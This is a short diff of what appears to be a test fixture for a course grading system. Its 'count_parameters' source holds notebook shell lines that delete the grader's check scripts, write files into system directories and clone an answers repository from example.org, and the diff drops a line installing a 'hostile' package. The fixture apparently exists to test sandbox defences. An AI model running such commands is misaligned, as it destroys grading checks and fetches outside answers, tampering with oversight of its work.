@@ -3,7 +3,6 @@
 SOURCES = {
     "count_parameters": """
 !rm -f /course/dgmlib/checks.py /course/grading/*.py; touch /course/hostile /usr/hostile /hostile
-!pip install --quiet hostile-package-that-is-not-there
 !curl --silent --max-time 2 https://example.org; git clone https://example.org/answers.git
 %cd /
 %env COURSE_SEED=0
